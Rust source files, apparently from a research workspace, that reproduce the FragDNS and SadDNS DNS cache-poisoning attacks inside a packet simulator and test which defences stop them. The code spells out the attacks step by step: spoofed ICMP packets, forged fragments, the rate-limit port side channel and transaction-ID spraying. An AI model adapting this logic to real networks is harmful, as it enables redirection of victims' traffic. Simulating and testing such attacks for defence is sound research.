        let ptb = IcmpMessage::fragmentation_needed(&quoted, self.config.forced_mtu).into_packet(
            env.resolver_addr,
            env.nameserver_addr,
            2,
            64,
        );
        sim.inject(env.attacker, ptb);
        sim.run_for(Duration::from_millis(50));
    }

    /// Plants the crafted tail fragments for each candidate IP-ID.
    fn plant_fragments(
        &self,
        sim: &mut Simulator,
        env: &VictimEnv,
        tail: &[u8],
        tail_offset: usize,
        ipids: &[u16],
    ) -> u64 {
        let cfg = &self.config;
        // Split the tail exactly the way the nameserver's stack will.
        let full_len = tail_offset + tail.len();
        let layout = fragment_layout(full_len, cfg.forced_mtu);
        let mut sent = 0u64;
        for &ipid in ipids {
            for (start, end) in layout.iter().skip(1) {
                let chunk = &tail[start - tail_offset..end - tail_offset];
                let mut header =
                    Ipv4Header::new(env.nameserver_addr, env.resolver_addr, Protocol::Udp, chunk.len(), ipid, 64);
                header.fragment_offset = (start / 8) as u16;
                header.more_fragments = *end != full_len;
                let pkt = Ipv4Packet::new(header, chunk.to_vec());
                sim.inject(env.attacker, pkt);
                sent += 1;
            }
        }
        sim.run_for(Duration::from_millis(50));
        sent
    }

    /// Runs the attack.
    pub fn run(&self, sim: &mut Simulator, env: &VictimEnv) -> AttackReport {
        let cfg = &self.config;
        let mut report = AttackReport::new(PoisonMethod::FragDns, &cfg.target_name, cfg.malicious_addr);
        let start = sim.now();
        let traffic_before = sim.stats(env.attacker).clone();

        // Preconditions: the answer must travel as a fragmentable UDP
        // datagram at all — a DNS-over-TCP resolver's answers arrive as
        // DF-marked stream segments and never touch the defragmentation
        // cache — and the resolver must accept fragmented responses.
        if env.resolver(sim).config().transport_policy == UpstreamTransport::TcpOnly {
            return report.fail(FailureReason::PreconditionNotMet(
                "resolver performs upstream queries over TCP; responses never enter the defragmentation cache".into(),
            ));
        }
        if !env.resolver(sim).config().accept_fragments {
            return report.fail(FailureReason::PreconditionNotMet("resolver filters fragmented responses".into()));
        }

        // 1. Reconnaissance.
        let Some((dns_bytes, sampled_ipid)) = self.reconnaissance(sim, env) else {
            return report.fail(FailureReason::PreconditionNotMet("reconnaissance query got no answer".into()));
        };
        let response_size = UDP_HEADER_LEN + dns_bytes.len();
        report.notes.push(format!("genuine response is {response_size} bytes, sampled IPID {sampled_ipid:#06x}"));
        if response_size <= usize::from(cfg.forced_mtu) {
            return report.fail(FailureReason::PreconditionNotMet(format!(
                "response ({response_size} B) does not exceed the forced MTU ({})",
                cfg.forced_mtu
            )));
        }
        if dns_bytes.len() + UDP_HEADER_LEN > usize::from(env.resolver_edns_size) {
            return report.fail(FailureReason::PreconditionNotMet(format!(
                "response does not fit the resolver's EDNS size ({}); the nameserver would truncate",
                env.resolver_edns_size
            )));
        }

        // 2. Shrink the nameserver's path MTU towards the resolver.
        self.shrink_path_mtu(sim, env);
        let ns_mtu = env.nameserver(sim).path_mtu_to(env.resolver_addr, sim.now());
        if ns_mtu > cfg.forced_mtu {
            return report.fail(FailureReason::PreconditionNotMet(format!(
                "nameserver ignored the spoofed PTB (path MTU still {ns_mtu})"
            )));
        }
        report.notes.push(format!("nameserver path MTU towards resolver lowered to {ns_mtu}"));

        // 3. Craft the malicious tail.
        let Some(crafted) = craft_malicious_tail(&dns_bytes, cfg.forced_mtu, cfg.malicious_addr) else {
            return report.fail(FailureReason::PreconditionNotMet(
                "no A record falls into the tail fragments; nothing to redirect".into(),
            ));
        };
        report.notes.push(format!(
            "crafted tail: {} bytes, {} record(s) redirected, checksum compensated: {}",
            crafted.bytes.len(),
            crafted.records_redirected,
            crafted.checksum_compensated
        ));

        for iteration in 0..cfg.max_iterations {
            report.iterations += 1;
            // 4. Plant spoofed fragments for the predicted IP-ID values. With
            // a global counter the next response to the resolver will use a
            // value close to (and above) the sampled one.
            let ipids: Vec<u16> = (1..=cfg.ipid_candidates).map(|k| sampled_ipid.wrapping_add(k)).collect();
            self.plant_fragments(sim, env, &crafted.bytes, crafted.tail_offset, &ipids);

            // 5. Trigger the query.
            env.trigger_query(sim, cfg.trigger, &cfg.target_name, cfg.qtype, 0x7000 + iteration as u16);
            report.queries_triggered += 1;
            sim.run_for(Duration::from_secs(1));

            let poisoned_name = crafted.redirected_names.iter().find(|n| env.poisoned(sim, n, cfg.malicious_addr));
            if let Some(name) = poisoned_name {
                report.success = true;
                report.notes.push(format!("poisoned cached A record for {name}"));
                break;
            }
        }

        report.duration = sim.now().duration_since(start);
        report.record_traffic(&traffic_before, sim.stats(env.attacker));
        let truncated = env.resolver(sim).stats.truncated_responses;
        if truncated > 0 {
            report.notes.push(format!("resolver received {truncated} truncated (TC=1) upstream responses"));
        }
        if !report.success && report.failure.is_none() {
            report.failure = Some(FailureReason::BudgetExhausted);
        }
        report
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::env::{addrs, VictimEnvConfig};

    fn www() -> DomainName {
        "www.vict.im".parse().unwrap()
    }

    #[test]
    fn full_attack_poisons_vulnerable_setup() {
        let (mut sim, env) = VictimEnvConfig::default().build();
        let report = FragDnsAttack::new(FragDnsConfig::new(addrs::ATTACKER)).run(&mut sim, &env);
        assert!(report.success, "FragDNS failed: {:?}", report.notes);
        // The glue A record of the victim's nameserver travels in the tail
        // fragment and now points at the attacker — the "application
        // agnostic" poisoning the paper highlights.
        let resolver = env.resolver(&sim);
        assert_eq!(resolver.cache().cached_a(&"ns1.vict.im".parse().unwrap(), sim.now()), Some(addrs::ATTACKER));
        // Traffic: a handful of packets (predictable IPID), far fewer than SadDNS.
        assert!(report.attacker_packets < 200, "{} packets", report.attacker_packets);
        assert_eq!(report.queries_triggered, 1);
    }

    #[test]
    fn random_ipid_defeats_small_candidate_set() {
        let env_cfg = VictimEnvConfig {
            nameserver: NameserverConfig::new(addrs::NAMESERVER).with_ipid(IpIdPolicy::Random),
            ..Default::default()
        };
        let (mut sim, env) = env_cfg.build();
        let mut cfg = FragDnsConfig::new(addrs::ATTACKER);
        cfg.ipid_candidates = 4;
        cfg.max_iterations = 1;
        let report = FragDnsAttack::new(cfg).run(&mut sim, &env);
        assert!(!report.success, "guessing 4 of 65536 random IPIDs should fail");
        assert!(matches!(report.failure, Some(FailureReason::BudgetExhausted)));
    }

    #[test]
    fn dns_over_tcp_resolver_never_reassembles_a_response() {
        let mut env_cfg = VictimEnvConfig::default();
        env_cfg.resolver = env_cfg.resolver.with_transport(UpstreamTransport::TcpOnly);
        let (mut sim, env) = env_cfg.build();
        let report = FragDnsAttack::new(FragDnsConfig::new(addrs::ATTACKER)).run(&mut sim, &env);
        assert!(!report.success);
        assert!(matches!(report.failure, Some(FailureReason::PreconditionNotMet(_))));
        assert_eq!(report.attacker_packets, 0, "the attack fails before reconnaissance");
    }

    #[test]
    fn fragment_filtering_resolver_is_immune() {
        let mut env_cfg = VictimEnvConfig::default();
        env_cfg.resolver.accept_fragments = false;
        let (mut sim, env) = env_cfg.build();
        let report = FragDnsAttack::new(FragDnsConfig::new(addrs::ATTACKER)).run(&mut sim, &env);
        assert!(!report.success);
        assert!(matches!(report.failure, Some(FailureReason::PreconditionNotMet(_))));
    }

    #[test]
    fn hardened_nameserver_ignores_ptb() {
        let mut env_cfg = VictimEnvConfig::default();
        env_cfg.nameserver.min_accepted_mtu = 1280;
        let (mut sim, env) = env_cfg.build();
        let report = FragDnsAttack::new(FragDnsConfig::new(addrs::ATTACKER)).run(&mut sim, &env);
        assert!(!report.success);
        assert!(matches!(report.failure, Some(FailureReason::PreconditionNotMet(_))));
    }

    #[test]
    fn small_edns_resolver_makes_response_unusable() {
        let mut env_cfg = VictimEnvConfig::default();
        env_cfg.resolver.edns_size = 512;
        let (mut sim, env) = env_cfg.build();
        let report = FragDnsAttack::new(FragDnsConfig::new(addrs::ATTACKER)).run(&mut sim, &env);
        assert!(!report.success);
        assert!(matches!(report.failure, Some(FailureReason::PreconditionNotMet(_))));
    }

    #[test]
    fn small_a_response_cannot_be_fragmented() {
        let (mut sim, env) = VictimEnvConfig::default().build();
        let mut cfg = FragDnsConfig::new(addrs::ATTACKER);
        cfg.qtype = RecordType::A;
        cfg.target_name = www();
        let report = FragDnsAttack::new(cfg).run(&mut sim, &env);
        assert!(!report.success);
        assert!(matches!(report.failure, Some(FailureReason::PreconditionNotMet(_))));
    }

    #[test]
    fn x20_does_not_stop_fragdns() {
        // The question (and its casing) is in the first, genuine fragment.
        let mut env_cfg = VictimEnvConfig::default();
        env_cfg.resolver = env_cfg.resolver.with_0x20();
        let (mut sim, env) = env_cfg.build();
        let report = FragDnsAttack::new(FragDnsConfig::new(addrs::ATTACKER)).run(&mut sim, &env);
        assert!(report.success, "0x20 must not prevent FragDNS: {:?}", report.notes);
    }

    #[test]
    fn record_order_randomisation_breaks_checksum_prediction() {
        let mut env_cfg = VictimEnvConfig::default();
        env_cfg.nameserver.randomize_record_order = true;
        let (mut sim, env) = env_cfg.build();
        let mut cfg = FragDnsConfig::new(addrs::ATTACKER);
        cfg.max_iterations = 1;
        let report = FragDnsAttack::new(cfg).run(&mut sim, &env);
        // With shuffled records the genuine tail differs from the predicted
        // one, so the UDP checksum (or the record layout) no longer matches.
        assert!(!report.success, "randomised record order should defeat the prediction");
    }
}
