//! SadDNS — cache poisoning via the ICMP global rate-limit side channel
//! (Section 3.2, after Man et al. CCS 2020).
//!
//! The attack has four moving parts, all reproduced here against the packet
//! simulator:
//!
//! 1. **mute the nameserver** — a burst of spoofed queries (source address =
//!    the victim resolver) exhausts the nameserver's response-rate-limit
//!    budget, so the genuine answer is delayed past the resolver's timeout
//!    and the attacker has a long race window;
//! 2. **trigger** the target query so the resolver opens an ephemeral port;
//! 3. **scan for that port** in batches of 50 UDP probes spoofed from the
//!    nameserver's address: if all 50 probed ports are closed the resolver's
//!    global ICMP budget (50/s) is exhausted and the attacker's own
//!    verification probe goes unanswered; if one was open, a token is left
//!    over and the attacker receives a port-unreachable — a 1-bit oracle per
//!    batch, refined by divide and conquer;
//! 4. **brute-force the TXID** — with the port known, spray spoofed responses
//!    for all 2¹⁶ transaction IDs.

use crate::env::{QueryTrigger, VictimEnv};
use crate::outcome::{AttackReport, FailureReason, PoisonMethod};
use dns::prelude::*;
use netsim::prelude::*;
use std::net::Ipv4Addr;

/// Probes per scan batch — Linux's default **global** ICMP error budget of
/// 50 tokens per second (Section 3.2). One batch of spoofed probes drains
/// the budget exactly, which is what makes the verification probe a 1-bit
/// oracle. Shared with the vulnerability scanner's ICMP global-limit probe
/// (`xlayer-core::vulnscan`).
pub const ICMP_PROBE_BATCH: u16 = 50;

/// Base of a port window assumed **closed** on the victim resolver.
/// Resolvers in this workspace draw ephemeral ports from ranges well above
/// it, so probes aimed here always burn an ICMP token without hitting an
/// open socket — used by the scanner's 50-probe window and by tests needing
/// a guaranteed-closed batch.
pub const CLOSED_PORT_PROBE_BASE: u16 = 10_000;

/// Configuration for a SadDNS attack run.
#[derive(Debug, Clone)]
pub struct SadDnsConfig {
    /// Address to plant for the target name.
    pub malicious_addr: Ipv4Addr,
    /// The name to poison.
    pub target_name: DomainName,
    /// Query type to trigger.
    pub qtype: RecordType,
    /// How the query is triggered.
    pub trigger: QueryTrigger,
    /// Port range the attacker scans (inclusive). The real attack scans the
    /// full ephemeral range over many iterations; experiments narrow it and
    /// scale the reported numbers (see `xlayer-core::analysis`).
    pub scan_range: (u16, u16),
    /// Probes per batch — the ICMP global limit (50 on Linux).
    pub batch_size: u16,
    /// Spoofed queries used to mute the nameserver per iteration.
    pub mute_queries: u32,
    /// Pause between probe batches so the ICMP token bucket refills.
    pub batch_interval: Duration,
    /// Maximum trigger/scan iterations before giving up.
    pub max_iterations: u32,
    /// Whether to spray the full 2^16 TXID space once the port is found.
    pub full_txid_sweep: bool,
}

impl SadDnsConfig {
    /// Default configuration targeting `www.vict.im`.
    pub fn new(malicious_addr: Ipv4Addr) -> Self {
        SadDnsConfig {
            malicious_addr,
            target_name: "www.vict.im".parse().expect("valid name"),
            qtype: RecordType::A,
            trigger: QueryTrigger::OpenResolver,
            scan_range: (32768, 60999),
            batch_size: ICMP_PROBE_BATCH,
            mute_queries: 2000,
            batch_interval: Duration::from_millis(1100),
            max_iterations: 3,
            full_txid_sweep: true,
        }
    }
}

/// The SadDNS attack driver.
#[derive(Debug, Clone)]
pub struct SadDnsAttack {
    /// Attack configuration.
    pub config: SadDnsConfig,
}

impl SadDnsAttack {
    /// Creates a driver.
    pub fn new(config: SadDnsConfig) -> Self {
        SadDnsAttack { config }
    }

    /// Probes a set of candidate ports (padded to `batch_size` with ports
    /// assumed closed) and returns whether the set contains an open port.
    fn probe_set(&self, sim: &mut Simulator, env: &VictimEnv, ports: &[u16]) -> bool {
        let cfg = &self.config;
        let t0 = sim.now();
        let mut sent = 0u16;
        for &port in ports.iter().take(cfg.batch_size as usize) {
            let probe = UdpDatagram::new(env.nameserver_addr, env.resolver_addr, 53, port, vec![0u8; 8])
                .into_packet(1000 + sent, 64);
            sim.inject(env.attacker, probe);
            sent += 1;
        }
        // Pad with probes to ports that are (almost certainly) closed so the
        // batch always carries exactly `batch_size` spoofed probes.
        let mut pad_port = 2;
        while sent < cfg.batch_size {
            let probe = UdpDatagram::new(env.nameserver_addr, env.resolver_addr, 53, pad_port, vec![0u8; 8])
                .into_packet(2000 + sent, 64);
            sim.inject(env.attacker, probe);
            pad_port += 1;
            sent += 1;
        }
        // Verification probe from the attacker's own address to a closed port.
        let verify =
            UdpDatagram::new(env.attacker_addr, env.resolver_addr, 4444, 7, vec![0u8; 8]).into_packet(3000, 64);
        sim.inject(env.attacker, verify);
        sim.run_for(Duration::from_millis(50));
        let open_somewhere = env.attacker(sim).port_unreachable_since(t0);
        // Let the ICMP bucket refill before the next batch.
        sim.run_for(cfg.batch_interval);
        open_somewhere
    }

    /// Locates the open ephemeral port via batched probing plus divide and
    /// conquer. Returns the port if found before `deadline`.
    fn scan_for_port(
        &self,
        sim: &mut Simulator,
        env: &VictimEnv,
        deadline: SimTime,
        report: &mut AttackReport,
    ) -> Option<u16> {
        let cfg = &self.config;
        // Every probe_set call sends exactly batch_size spoofed probes plus
        // one verification probe, counted here (the oracle test calls
        // probe_set directly and is not part of an attack's accounting).
        let probes_per_set = u64::from(cfg.batch_size) + 1;
        let (lo, hi) = cfg.scan_range;
        let mut batch_start = lo as u32;
        while batch_start <= hi as u32 && sim.now() < deadline {
            let batch_end = (batch_start + cfg.batch_size as u32 - 1).min(hi as u32);
            let ports: Vec<u16> = (batch_start..=batch_end).map(|p| p as u16).collect();
            report.probes_sent += probes_per_set;
            if self.probe_set(sim, env, &ports) {
                report.windows_hit += 1;
                report.notes.push(format!("open port detected in [{batch_start}, {batch_end}]"));
                // Divide and conquer inside the batch.
                let mut candidates = ports;
                while candidates.len() > 1 && sim.now() < deadline {
                    let mid = candidates.len() / 2;
                    let (left, right) = candidates.split_at(mid);
                    report.probes_sent += probes_per_set;
                    if self.probe_set(sim, env, left) {
                        candidates = left.to_vec();
                    } else {
                        candidates = right.to_vec();
                    }
                }
                if candidates.len() == 1 {
                    return Some(candidates[0]);
                }
                return None;
            }
            batch_start = batch_end + 1;
        }
        None
    }

    /// Mutes the nameserver by exhausting its response-rate-limit budget with
    /// spoofed queries that appear to come from the victim resolver.
    fn mute_nameserver(&self, sim: &mut Simulator, env: &VictimEnv) {
        let cfg = &self.config;
        for i in 0..cfg.mute_queries {
            let name = cfg.target_name.prepend(&format!("mute{i}")).unwrap_or_else(|_| cfg.target_name.clone());
            let q = Message::query(i as u16, name, RecordType::A);
            let pkt = UdpDatagram::new(env.resolver_addr, env.nameserver_addr, 5300, 53, q.encode())
                .into_packet(i as u16, 64);
            sim.inject(env.attacker, pkt);
        }
        sim.run_for(Duration::from_millis(30));
    }

    /// Sprays spoofed responses over the TXID space at the identified port.
    /// Returns the spray size (number of forged responses sent).
    fn spray_txids(&self, sim: &mut Simulator, env: &VictimEnv, port: u16) -> u64 {
        let cfg = &self.config;
        let space: u32 = if cfg.full_txid_sweep { 1 << 16 } else { 4096 };
        // The 2^16 spoofed responses differ only in the DNS TXID (wire bytes
        // 0-1) and the IP ID, so encode the message once and patch the TXID
        // into a pooled copy per packet instead of re-encoding every time.
        let mut template = Message::query(0, cfg.target_name.clone(), cfg.qtype);
        template.header.is_response = true;
        template.header.authoritative = true;
        template.answers.push(ResourceRecord::new(cfg.target_name.clone(), 3600, RData::A(cfg.malicious_addr)));
        let wire = template.encode();
        for txid in 0..space {
            let mut payload = netsim::pool::take(wire.len());
            payload.extend_from_slice(&wire);
            payload[..2].copy_from_slice(&(txid as u16).to_be_bytes());
            let pkt = UdpDatagram::new(env.nameserver_addr, env.resolver_addr, 53, port, payload)
                .into_packet(txid as u16, 64);
            sim.inject(env.attacker, pkt);
        }
        sim.run_for(Duration::from_millis(200));
        u64::from(space)
    }

    /// Runs the attack.
    pub fn run(&self, sim: &mut Simulator, env: &VictimEnv) -> AttackReport {
        self.run_recorded(sim, env, None)
    }

    /// Runs the attack, optionally recording phase spans (mute, scan, spray)
    /// into a flight recorder at sim-time resolution. With `None` this is
    /// exactly [`SadDnsAttack::run`] — the recording branches compile to a
    /// cheap `Option` check per phase, not per packet.
    pub fn run_recorded(
        &self,
        sim: &mut Simulator,
        env: &VictimEnv,
        mut rec: Option<&mut telemetry::FlightRecorder>,
    ) -> AttackReport {
        let cfg = &self.config;
        let mut report = AttackReport::new(PoisonMethod::SadDns, &cfg.target_name, cfg.malicious_addr);
        let start = sim.now();
        let traffic_before = sim.stats(env.attacker).clone();

        // Preconditions: the resolver must race over UDP at all (a
        // DNS-over-TCP resolver opens no ephemeral UDP port, so the ICMP
        // side channel has nothing to find), its OS must use a *global*
        // ICMP error rate limit, and the nameserver must be mutable via
        // rate limiting.
        {
            let resolver = env.resolver(sim);
            if resolver.config().transport_policy == UpstreamTransport::TcpOnly {
                return report.fail(FailureReason::PreconditionNotMet(
                    "resolver performs upstream queries over TCP; no UDP ephemeral port to discover".into(),
                ));
            }
            if !resolver.stack().icmp_limiter().is_globally_limited() {
                return report.fail(FailureReason::PreconditionNotMet(
                    "resolver does not use a global ICMP rate limit (side channel closed)".into(),
                ));
            }
            if resolver.config().use_0x20 {
                report.notes.push("resolver uses 0x20: TXID sweep alone cannot match the casing".into());
            }
        }
        if !env.nameserver(sim).has_rrl() {
            return report.fail(FailureReason::PreconditionNotMet(
                "nameserver has no response rate limiting; it cannot be muted".into(),
            ));
        }

        let resolver_timeout = env.resolver(sim).config().query_timeout;
        let retries = env.resolver(sim).config().max_retries;

        for iteration in 0..cfg.max_iterations {
            report.iterations += 1;
            // 1. Mute the nameserver.
            if let Some(r) = rec.as_deref_mut() {
                telemetry::span!(
                    r,
                    sim.now().as_nanos(),
                    "saddns.mute",
                    "iteration {iteration}: {} spoofed queries",
                    cfg.mute_queries
                );
            }
            self.mute_nameserver(sim, env);
            if let Some(r) = rec.as_deref_mut() {
                r.exit(sim.now().as_nanos(), "saddns.mute");
            }
            // 2. Trigger the query.
            env.trigger_query(sim, cfg.trigger, &cfg.target_name, cfg.qtype, 0x4000 + iteration as u16);
            report.queries_triggered += 1;
            sim.run_for(Duration::from_millis(30));
            // The window closes when the resolver gives up (all retries).
            let window_end = sim.now() + resolver_timeout.saturating_mul(u64::from(retries) + 1);
            // Muting bounced a few rate-limited responses off closed resolver
            // ports, draining the global ICMP bucket the oracle depends on.
            // Pace like the real attack: let the budget refill before probing.
            sim.run_for(cfg.batch_interval);

            // 3. Scan for the open ephemeral port.
            if let Some(r) = rec.as_deref_mut() {
                telemetry::span!(
                    r,
                    sim.now().as_nanos(),
                    "saddns.scan",
                    "iteration {iteration}: range [{}, {}]",
                    cfg.scan_range.0,
                    cfg.scan_range.1
                );
            }
            let found = self.scan_for_port(sim, env, window_end, &mut report);
            if let Some(r) = rec.as_deref_mut() {
                r.exit(sim.now().as_nanos(), "saddns.scan");
            }
            let Some(port) = found else {
                report.notes.push(format!("iteration {iteration}: port not found within the window"));
                // Let the current query expire before the next iteration.
                sim.run_for(resolver_timeout.saturating_mul(u64::from(retries) + 1));
                continue;
            };
            report.notes.push(format!("iteration {iteration}: isolated open port {port}"));

            // 4. TXID brute force.
            if sim.now() >= window_end {
                report.notes.push("window closed before the TXID sweep".into());
                continue;
            }
            if let Some(r) = rec.as_deref_mut() {
                telemetry::span!(r, sim.now().as_nanos(), "saddns.spray", "iteration {iteration}: port {port}");
            }
            report.spray_responses += self.spray_txids(sim, env, port);
            if let Some(r) = rec.as_deref_mut() {
                r.exit(sim.now().as_nanos(), "saddns.spray");
            }
            sim.run_for(Duration::from_millis(100));

            if env.poisoned(sim, &cfg.target_name, cfg.malicious_addr) {
                report.success = true;
                break;
            }
        }

        report.duration = sim.now().duration_since(start);
        report.record_traffic(&traffic_before, sim.stats(env.attacker));
        let truncated = env.resolver(sim).stats.truncated_responses;
        if truncated > 0 {
            report.notes.push(format!("resolver received {truncated} truncated (TC=1) upstream responses"));
        }
        if !report.success && report.failure.is_none() {
            let resolver = env.resolver(sim);
            report.failure = Some(if resolver.stats.rejected_question > 0 {
                FailureReason::RejectedByResolver("0x20 casing not matched".into())
            } else {
                FailureReason::BudgetExhausted
            });
        }
        report
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::env::{addrs, VictimEnvConfig};

    /// An environment tuned so the full SadDNS machinery runs in a few
    /// simulated minutes: the resolver draws ports from a 256-port range
    /// (documented scaling knob), its timeout is generous, and the nameserver
    /// rate-limits responses.
    fn saddns_env(zone_signed: bool, use_0x20: bool, global_icmp: bool) -> (Simulator, VictimEnv) {
        let mut cfg = VictimEnvConfig {
            zone_security: if zone_signed {
                crate::env::ZoneSecurity::signed_nsec()
            } else {
                crate::env::ZoneSecurity::Unsigned
            },
            resolver: ResolverConfig::new(addrs::RESOLVER).with_delegation(
                "vict.im",
                vec![addrs::NAMESERVER],
                zone_signed,
            ),
            nameserver: NameserverConfig::new(addrs::NAMESERVER).with_rrl(10),
            ..Default::default()
        };
        cfg.resolver.port_range = (40000, 40255);
        cfg.resolver.query_timeout = Duration::from_secs(30);
        cfg.resolver.max_retries = 0;
        if use_0x20 {
            cfg.resolver.use_0x20 = true;
        }
        if !global_icmp {
            cfg.resolver.icmp_rate_limit = IcmpRateLimitPolicy::PerDestination { capacity: 50, per_second: 50.0 };
        }
        cfg.build()
    }

    fn attack_cfg() -> SadDnsConfig {
        let mut cfg = SadDnsConfig::new(addrs::ATTACKER);
        cfg.scan_range = (40000, 40255);
        cfg.max_iterations = 2;
        cfg
    }

    #[test]
    fn full_attack_poisons_vulnerable_resolver() {
        let (mut sim, env) = saddns_env(false, false, true);
        let report = SadDnsAttack::new(attack_cfg()).run(&mut sim, &env);
        assert!(report.success, "SadDNS failed: {:?}", report.notes);
        assert!(env.poisoned(&sim, &"www.vict.im".parse().unwrap(), addrs::ATTACKER));
        // The attack is traffic-heavy: tens of thousands of packets (the
        // paper reports ~1M for the full 64K-port space).
        assert!(report.attacker_packets > 10_000, "only {} packets", report.attacker_packets);
        assert!(report.duration > Duration::from_secs(1));
    }

    #[test]
    fn recorded_run_counts_probes_and_spans_phases() {
        let (mut sim, env) = saddns_env(false, false, true);
        let mut rec = telemetry::FlightRecorder::new(64);
        let report = SadDnsAttack::new(attack_cfg()).run_recorded(&mut sim, &env, Some(&mut rec));
        assert!(report.success, "SadDNS failed: {:?}", report.notes);
        assert!(report.probes_sent > 0, "scan probes are accounted");
        assert_eq!(report.probes_sent % (u64::from(ICMP_PROBE_BATCH) + 1), 0, "probes come in batch+verify sets");
        assert_eq!(report.windows_hit, 1, "one scan window contained the open port");
        assert_eq!(report.spray_responses, 1 << 16, "full TXID sweep sprayed the whole space");
        let names: Vec<&str> = rec.events().map(|e| e.name).collect();
        assert!(names.contains(&"saddns.mute"));
        assert!(names.contains(&"saddns.scan"));
        assert!(names.contains(&"saddns.spray"));
        let dump = rec.dump_last(64);
        assert!(dump.contains("> saddns.scan"));
        assert!(dump.contains("< saddns.spray"));
    }

    #[test]
    fn run_and_run_recorded_agree() {
        let (mut sim_a, env_a) = saddns_env(false, false, true);
        let plain = SadDnsAttack::new(attack_cfg()).run(&mut sim_a, &env_a);
        let (mut sim_b, env_b) = saddns_env(false, false, true);
        let mut rec = telemetry::FlightRecorder::default();
        let recorded = SadDnsAttack::new(attack_cfg()).run_recorded(&mut sim_b, &env_b, Some(&mut rec));
        assert_eq!(plain, recorded, "recording must not perturb the attack");
    }

    #[test]
    fn dns_over_tcp_resolver_has_no_port_to_scan() {
        let mut cfg =
            VictimEnvConfig { nameserver: NameserverConfig::new(addrs::NAMESERVER).with_rrl(10), ..Default::default() };
        cfg.resolver = cfg.resolver.with_transport(UpstreamTransport::TcpOnly);
        let (mut sim, env) = cfg.build();
        let report = SadDnsAttack::new(attack_cfg()).run(&mut sim, &env);
        assert!(!report.success);
        assert!(matches!(report.failure, Some(FailureReason::PreconditionNotMet(_))));
        assert_eq!(report.attacker_packets, 0, "the attack fails before sending a single probe");
    }

    #[test]
    fn per_destination_icmp_limit_closes_the_side_channel() {
        let (mut sim, env) = saddns_env(false, false, false);
        let report = SadDnsAttack::new(attack_cfg()).run(&mut sim, &env);
        assert!(!report.success);
        assert!(matches!(report.failure, Some(FailureReason::PreconditionNotMet(_))));
    }

    #[test]
    fn nameserver_without_rrl_cannot_be_muted() {
        let mut cfg = VictimEnvConfig::default();
        cfg.resolver.port_range = (40000, 40255);
        let (mut sim, env) = cfg.build();
        let report = SadDnsAttack::new(attack_cfg()).run(&mut sim, &env);
        assert!(!report.success);
        assert!(matches!(report.failure, Some(FailureReason::PreconditionNotMet(_))));
    }

    #[test]
    fn x20_defeats_the_txid_sweep() {
        let (mut sim, env) = saddns_env(false, true, true);
        let report = SadDnsAttack::new(attack_cfg()).run(&mut sim, &env);
        assert!(!report.success, "0x20 should defeat SadDNS");
        assert!(env.resolver(&sim).stats.rejected_question > 0);
    }

    #[test]
    fn probe_oracle_distinguishes_open_and_closed_batches() {
        let (mut sim, env) = saddns_env(false, false, true);
        let attack = SadDnsAttack::new(attack_cfg());
        // Mute + trigger so a port in 40000..40255 is open.
        attack.mute_nameserver(&mut sim, &env);
        env.trigger_query(&mut sim, QueryTrigger::OpenResolver, &"www.vict.im".parse().unwrap(), RecordType::A, 1);
        sim.run_for(Duration::from_millis(30));
        // Let the resolver's global ICMP bucket refill: muting the nameserver
        // made it bounce a few responses off closed resolver ports, which
        // consumed tokens.
        sim.run_for(Duration::from_millis(1200));
        let open_ports = env.resolver(&sim).outstanding_ports();
        assert_eq!(open_ports.len(), 1);
        let open_port = open_ports[0];
        // A batch containing the open port reports true.
        let containing: Vec<u16> = (open_port.saturating_sub(10)..open_port.saturating_sub(10) + 50).collect();
        assert!(attack.probe_set(&mut sim, &env, &containing));
        // A batch of closed ports reports false.
        let closed: Vec<u16> = (CLOSED_PORT_PROBE_BASE..CLOSED_PORT_PROBE_BASE + ICMP_PROBE_BATCH).collect();
        assert!(!attack.probe_set(&mut sim, &env, &closed));
    }
}
