//! The object-safe [`AttackVector`] abstraction and the vector registry.
//!
//! The paper's central structural observation (Section 4) is that every
//! cross-layer attack is the *same pipeline* instantiated with different
//! parts: **trigger** a query at the victim resolver, **poison** the cache
//! by some off-path methodology, then **exploit** the poisoned record at the
//! application layer (Section 4.5). Attacker capability and exploited
//! application are orthogonal axes, so the poisoning step is modelled as a
//! trait object: any code that drives the pipeline — the countermeasure
//! ablation, the cross-layer scenarios, the campaign engine — works against
//! `dyn AttackVector` and never dispatches on the methodology itself.
//!
//! The three Section 3 methodologies implement the trait:
//!
//! | Vector | Poisoning step |
//! | ------ | -------------- |
//! | [`HijackDnsAttack`] | BGP sub-/same-prefix hijack intercepts the query (§3.1) |
//! | [`SadDnsAttack`] | ICMP rate-limit side channel + TXID brute force (§3.2) |
//! | [`FragDnsAttack`] | spoofed second fragments in the defrag cache (§3.3) |
//!
//! [`all`] returns the registry of reference-configured vectors; [`quick`]
//! returns single-iteration variants for dense evaluation grids.

use crate::env::{VictimEnv, VictimEnvConfig};
use crate::fragdns::{FragDnsAttack, FragDnsConfig};
use crate::hijackdns::{HijackDnsAttack, HijackDnsConfig};
use crate::outcome::{AttackReport, PoisonMethod};
use crate::saddns::{SadDnsAttack, SadDnsConfig};
use netsim::prelude::*;

/// One off-path cache-poisoning methodology, abstracted so pipelines can be
/// composed without knowing which methodology they carry.
///
/// The trait is the "poison" stage of the paper's trigger → poison → exploit
/// pipeline (Section 4.5): the *trigger* is injected by the driver itself
/// (every methodology needs to control when the resolver's query race
/// opens), and the *exploit* stage — what the application does with the
/// poisoned record — is layered on top by `xlayer_core::scenario`.
///
/// Object safety is deliberate: registries ([`all`], [`quick`]) hand out
/// `Box<dyn AttackVector>`, and the proptests in `tests/scenario_props.rs`
/// verify that dynamic dispatch is byte-identical to calling the concrete
/// drivers directly.
pub trait AttackVector {
    /// Which Section 3 methodology this vector implements.
    fn method(&self) -> PoisonMethod;

    /// Adjusts the victim environment to the preconditions this methodology
    /// needs (e.g. SadDNS narrows the resolver's ephemeral-port range to its
    /// scan range and rate-limits the nameserver so muting works). Called
    /// once, before any defence is applied, so a defence can still override
    /// anything the vector set up.
    fn prepare_env(&self, cfg: &mut VictimEnvConfig);

    /// Executes the poisoning attempt against a built environment.
    fn execute(&self, sim: &mut Simulator, env: &VictimEnv) -> AttackReport;
}

impl AttackVector for HijackDnsAttack {
    fn method(&self) -> PoisonMethod {
        PoisonMethod::HijackDns
    }

    /// HijackDNS runs against the standard environment unchanged: the only
    /// preconditions (a hijackable announcement, no ROV on the path) are
    /// properties of the control plane, checked by `run` itself.
    fn prepare_env(&self, _cfg: &mut VictimEnvConfig) {}

    fn execute(&self, sim: &mut Simulator, env: &VictimEnv) -> AttackReport {
        self.run(sim, env)
